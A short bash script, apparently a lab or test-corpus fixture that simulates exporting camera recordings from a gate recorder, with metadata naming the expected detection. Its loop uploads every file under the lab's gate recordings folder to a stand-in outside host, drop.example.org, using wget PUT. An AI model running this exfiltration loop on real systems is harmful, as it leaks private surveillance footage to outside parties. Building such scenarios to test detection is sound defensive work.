#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=report tool=wget seconds=24 parts=dns,camera-gate,recorder-gate,nas,outside-web
# wget puts what gate recorded outside, one file after the other, the oldest first.
sleep 12
for file in "$LAB"/recordings/gate/*; do
	timeout 6 wget -q -O /dev/null --method=PUT --body-file="$file" "http://drop.example.org/drop/$$-${file##*/}"
done; sleep 5; true
